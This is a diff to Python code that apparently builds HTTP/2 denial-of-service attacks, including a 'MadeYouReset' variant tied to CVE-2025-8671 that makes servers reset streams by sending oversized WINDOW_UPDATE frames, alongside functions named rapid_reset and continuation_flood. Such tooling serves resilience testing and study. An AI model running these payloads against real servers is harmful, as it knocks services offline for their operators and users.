@@ -54,13 +54,10 @@ def rapid_reset() -> Attack:
 def made_you_reset() -> Attack:
     """Opens calls and has the server take them back (CVE-2025-8671)."""
     encoder = Encoder()
-    wrong = [opening(encoder, s, "Slow") + zero_window(s) for s in streams()]
+    # More window than there can be, an error of the stream.
+    too_much = [WindowUpdateFrame(s, window_increment=2**31 - 1).serialize() for s in streams()]
+    wrong = [opening(encoder, s, "Slow") + more for s, more in zip(streams(), too_much)]
     return Attack(greeting() + b"".join(wrong))
-
-
-def zero_window(stream: int) -> bytes:
-    """A WINDOW_UPDATE of nothing, an error of the stream; hyperframe would not write it."""
-    return b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + bytes(4)
 
 
 def continuation_flood() -> Attack:
